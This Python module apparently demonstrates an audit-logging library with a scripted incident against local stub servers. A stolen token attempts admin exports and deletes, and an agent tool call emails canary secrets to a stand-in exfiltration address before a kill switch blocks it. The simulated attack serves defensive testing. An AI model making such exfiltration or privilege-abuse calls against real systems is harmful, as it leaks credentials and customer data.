"""The demo's servers and scripted incident: a FastAPI shop API and an MCP tool server on 127.0.0.1.

:func:`run_incident` starts both under uvicorn (port 0, loopback only), drives a bounded script against
them and returns what the journal shows::

    1. normal traffic        alice reads and places orders (HTTP) and her agent searches orders (MCP)
    2. a stolen token        the support token calls the admin export (HTTP), reads an order, then calls
                             the export and delete tools beyond its scope (MCP): refused
    3. exfiltration attempt  send_email with secrets in its arguments: allowed, journaled as shapes only
    4. kill switch           send_email is disabled mid-run (the policy is swapped): refused from then on

Every HTTP request and tool call appears exactly once in the journal (``http.request``, ``mcp.tool_call``
or ``authz.denied``). The servers need the ``web`` and ``mcp`` extras.

The stolen-token steps are one incident: the attacker's client sends a W3C ``traceparent`` with one trace
id on every request (HTTP and the MCP session), so every step carries that correlation id and
``auditlog query JOURNAL timeline ID`` replays them in order. The admin tool calls also carry a planted
token (the canary named :data:`PLANTED_CANARY`) in ``upstream_token``, an argument the ``admin-tools``
rule fingerprints: the journal holds its keyed fingerprint only, in exactly those calls, so ``auditlog
query JOURNAL find -`` (the token on stdin) names them.
"""

from __future__ import annotations

import socket
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from auditlog.canaries import load_canaries
from auditlog.correlation import new_correlation_id, new_span_id
from auditlog.handle import AuditHandle
from auditlog.policy import Policy, loads

__all__ = ["INCIDENT_POLICY", "PLANTED_ARGUMENT", "PLANTED_CANARY", "run_incident"]

INCIDENT_POLICY = """\
version = 1
id = "demo-incident"

[defaults]
level = "shape"

[[rules]]
id = "orders-read"
match = { route = "/orders/*", method = "GET" }
required_scopes = ["orders:read"]
capture_body = true
body_retention = "1d"

[[rules]]
id = "orders-write"
match = { route = "/orders", method = "POST" }
required_scopes = ["orders:write"]

[[rules]]
id = "admin-http"
match = { route = "/admin/*" }
required_scopes = ["admin"]

[[rules]]
id = "search"
match = { tool = "search_orders" }
level = "values"
allow = ["status", "limit"]

[[rules]]
id = "admin-tools"
match = { tool = "*_customer*" }
required_scopes = ["admin"]
fingerprint = ["upstream_token"]

[[rules]]
id = "email"
match = { tool = "send_email" }
required_scopes = ["email:send"]
"""

DISABLE_EMAIL = INCIDENT_POLICY.replace(
    'match = { tool = "send_email" }\nrequired_scopes = ["email:send"]',
    'match = { tool = "send_email" }\nrequired_scopes = ["email:send"]\ndisabled = true',
)

TOKENS: dict[str, dict[str, Any]] = {
    "tok-alice": {
        "sub": "alice",
        "tenant": "acme",
        "client_id": "shop-web",
        "scopes": ["orders:read", "orders:write"],
    },
    "tok-agent": {
        "sub": "alice",
        "tenant": "acme",
        "client_id": "alice-agent",
        "scopes": ["orders:read", "email:send"],
    },
    "tok-support": {"sub": "support-7", "tenant": "acme", "client_id": "helpdesk", "scopes": ["orders:read"]},
}
PLANTED_CANARY = "bearer"
"""The canary planted as the incident's token (its name; the value is in :func:`load_canaries`). Not the
``api_key``: the workload fingerprints that one as ``card_token``, so ``find`` would name 40 more records."""
PLANTED_ARGUMENT = "upstream_token"
"""The tool argument that carries the planted token; the ``admin-tools`` rule fingerprints it."""
_STOLEN = "tok-support"  # the incident: every call made with this token
_TIMEOUT = 10.0


@contextmanager
def _serve(app: Any) -> Iterator[str]:
    import uvicorn

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(app, log_config=None, access_log=False, lifespan="on", ws="none", log_level="warning")
    )
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + _TIMEOUT
        while not server.started and time.monotonic() < deadline and thread.is_alive():
            time.sleep(0.01)
        if not server.started:
            raise RuntimeError("the demo server did not start")
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=_TIMEOUT)
        sock.close()


def _shop(handle: AuditHandle, policy: Policy, body_store: Any) -> tuple[Any, Any]:
    from fastapi import FastAPI
    from starlette.authentication import AuthCredentials, AuthenticationBackend, SimpleUser
    from starlette.middleware.authentication import AuthenticationMiddleware

    from auditlog.integrations.asgi import AuditMiddleware

    class Tokens(AuthenticationBackend):
        async def authenticate(self, conn: Any) -> tuple[AuthCredentials, SimpleUser] | None:
            entry = TOKENS.get(conn.headers.get("authorization", "").removeprefix("Bearer "))
            if entry is None:
                return None
            return AuthCredentials(entry["scopes"]), SimpleUser(entry["sub"])

    app = FastAPI()

    @app.get("/orders/{order_id}")
    async def order(order_id: int) -> dict[str, Any]:
        return {"id": order_id, "status": "shipped", "card_last4": "4444", "email": "buyer@example.org"}

    @app.post("/orders")
    async def place(body: dict[str, Any]) -> dict[str, Any]:
        return {"id": 1001, "items": len(body.get("items", []))}

    @app.get("/admin/export")
    async def export() -> dict[str, Any]:
        return {"customers": 12000}

    app.add_middleware(AuditMiddleware, handle=handle, policy=policy, enforce=True, body_store=body_store)
    app.add_middleware(AuthenticationMiddleware, backend=Tokens())
    return app, None


def _tools(handle: AuditHandle, policy: Policy) -> tuple[Any, Any]:
    from mcp.server.auth.provider import AccessToken
    from mcp.server.auth.settings import AuthSettings
    from mcp.server.mcpserver import MCPServer
    from pydantic import AnyHttpUrl

    from auditlog.integrations.mcp import MCPAuditMiddleware

    class Verifier:
        async def verify_token(self, token: str) -> AccessToken | None:
            entry = TOKENS.get(token)
            if entry is None:
                return None
            return AccessToken(
                token=token,
                client_id=entry["client_id"],
                scopes=entry["scopes"],
                subject=entry["sub"],
                claims={"tenant": entry["tenant"]},
            )

    audit = MCPAuditMiddleware(handle=handle, policy=policy)
    server = MCPServer(
        "demo-tools",
        middleware=[audit],
        token_verifier=Verifier(),
        auth=AuthSettings(
            issuer_url=AnyHttpUrl("http://127.0.0.1:9"),
            resource_server_url=AnyHttpUrl("http://127.0.0.1/mcp"),
            validate_token_resource=False,
        ),
        log_level="WARNING",
    )

    @server.tool()
    def search_orders(status: str, limit: int) -> list[dict[str, Any]]:
        return [{"id": i, "status": status} for i in range(min(limit, 3))]

    @server.tool()
    def export_customers(fmt: str, upstream_token: str = "") -> str:
        return "12000 rows"

    @server.tool()
    def delete_customer(customer_id: str, upstream_token: str = "") -> str:
        return "deleted"

    @server.tool()
    def send_email(to: str, subject: str, body: str) -> str:
        return "queued"

    return server.streamable_http_app(), audit


def run_incident(directory: str | Path, handle: AuditHandle) -> dict[str, Any]:
    """Start the shop API and the MCP server on 127.0.0.1, run the scripted incident, summarise the journal.

    Args:
        directory: a scratch directory (captured response bodies go to ``directory/bodies``).
        handle: the configured pipeline (its journal receives every event).

    Returns:
        A JSON-ready summary: calls sent and events found per channel, whether each appeared exactly once,
        the refusals (who, what, which scopes were missing), kinds counted, the incident's correlation id
        (``incident_correlation_id``) and how many events carry it (``incident_events``), how many calls
        carried the planted token (``token_calls``) and how many events hold its fingerprint
        (``token_hits``; never the token itself), and any canary found in the journal (there should be
        none).
    """
    import anyio
    import httpx
    import httpx2
    from mcp import Client
    from mcp.client.streamable_http import streamable_http_client
    from mcp.shared.exceptions import MCPError

    from store.trail import iter_trail_records

    canaries = load_canaries()
    policy = loads(INCIDENT_POLICY, source="<demo-incident>")
    body_store: Any = None
    try:
        from auditlog.bodies import open_body_store

        bodies_dir = Path(directory).resolve() / "bodies"
        bodies_dir.mkdir(parents=True, exist_ok=True)
        body_store = open_body_store(bodies_dir.as_uri(), handle=handle, policy=policy)
    except Exception:  # the demo runs without captured bodies if the store cannot open
        body_store = None
    shop, _ = _shop(handle, policy, body_store)
    tools, audit = _tools(handle, policy)
    sent = {"http": 0, "tool": 0, "token": 0}
    script: list[dict[str, Any]] = []
    incident = new_correlation_id()  # the trace id the attacker's client propagates
    planted = canaries.values[PLANTED_CANARY]

    def traceparent() -> str:
        return f"00-{incident}-{new_span_id()}-01"

    def http(client: httpx.Client, method: str, url: str, token: str, **kw: Any) -> None:
        headers = {"authorization": f"Bearer {token}"}
        if token == _STOLEN:
            headers["traceparent"] = traceparent()
        r = client.request(method, url, headers=headers, **kw)
        sent["http"] += 1
        script.append(
            {
                "channel": "http",
                "who": token,
                "call": f"{method} {url.split('?')[0]}",
                "status": r.status_code,
            }
        )

    async def tool_calls(base: str) -> None:
        async def call(client: Any, token: str, name: str, args: dict[str, Any]) -> None:
            sent["tool"] += 1
            sent["token"] += PLANTED_ARGUMENT in args
            try:
                result = await client.call_tool(name, args)
                outcome = "error" if result.is_error else "ok"
            except MCPError as exc:
                outcome = f"refused: {exc.error.message.split(':')[0]}"
            script.append({"channel": "mcp", "who": token, "call": name, "status": outcome})

        async def session(token: str) -> Any:
            headers = {"authorization": f"Bearer {token}"}
            if token == _STOLEN:  # one client span for the whole session: every request carries it
                headers["traceparent"] = traceparent()
            http_client = httpx2.AsyncClient(headers=headers, timeout=_TIMEOUT)
            return http_client, Client(streamable_http_client(f"{base}/mcp", http_client=http_client))

        with anyio.fail_after(60):
            hc, client = await session("tok-agent")
            async with hc, client:
                for status in ("shipped", "pending"):
                    await call(client, "tok-agent", "search_orders", {"status": status, "limit": 5})
            hc, client = await session("tok-support")
            async with hc, client:
                await call(
                    client, "tok-support", "export_customers", {"fmt": "csv", PLANTED_ARGUMENT: planted}
                )
                await call(
                    client,
                    "tok-support",
                    "delete_customer",
                    {"customer_id": "c-1", PLANTED_ARGUMENT: planted},
                )
            hc, client = await session("tok-agent")
            async with hc, client:
                secrets = canaries.values
                await call(
                    client,
                    "tok-agent",
                    "send_email",
                    {
                        "to": "drop@exfil.example",
                        "subject": "backup",
                        "body": f"key={secrets['api_key']} pw={secrets['password']} "
                        f"card={secrets['credit_card']}",
                    },
                )
                audit.auditor.set_policy(loads(DISABLE_EMAIL, source="<demo-incident:kill-switch>"))
                await call(
                    client,
                    "tok-agent",
                    "send_email",
                    {"to": "drop@exfil.example", "subject": "x", "body": "y"},
                )

    with _serve(shop) as shop_base, _serve(tools) as tools_base:
        with httpx.Client(base_url=shop_base, timeout=_TIMEOUT) as client:
            for order_id in (17, 18, 19):
                http(client, "GET", f"/orders/{order_id}", "tok-alice")
            http(client, "POST", "/orders", "tok-alice", json={"items": [{"sku": "A1", "qty": 2}]})
            http(client, "GET", "/admin/export?format=csv", "tok-support")
            http(client, "GET", f"/orders/20?email={canaries.values['email']}", "tok-support")
        anyio.run(tool_calls, tools_base)
    handle.flush()
    events = [r for _, r in iter_trail_records(handle.journal.directory) if r.get("v") == 1]
    kinds = Counter(str(e.get("kind")) for e in events)
    http_events = [e for e in events if "http" in e]
    tool_events = [e for e in events if e.get("action", {}).get("method") == "tools/call"]
    refusals = [
        {
            "kind": e["kind"],
            "who": e["actor"].get("client_id") or e["actor"].get("subject"),
            "action": e["action"]["name"],
            "reason": e["decision"]["reason"],
            "missing": e["decision"].get("missing", []),
        }
        for e in events
        if e.get("decision", {}).get("allowed") is False
    ]
    token_fp = handle.fingerprinter.fingerprint(planted)
    journal_blob = b"".join(
        p.read_bytes() for p in sorted(Path(handle.journal.directory).rglob("*")) if p.is_file()
    )
    return {
        "http_requests": sent["http"],
        "http_events": len(http_events),
        "tool_calls": sent["tool"],
        "tool_events": len(tool_events),
        "exactly_once": sent["http"] == len(http_events) and sent["tool"] == len(tool_events),
        "by_kind": dict(sorted(kinds.items())),
        "refusals": refusals,
        "bodies_captured": sum(1 for e in http_events if "body_ref" in e),
        "script": script,
        "incident_correlation_id": incident,
        "incident_events": sum(1 for e in events if e.get("correlation_id") == incident),
        "planted_canary": PLANTED_CANARY,
        "token_calls": sent["token"],
        "token_hits": sum(1 for e in events if token_fp in (e.get("fp") or {}).values()),
        "leaks": canaries.leaks_in(journal_blob),
    }
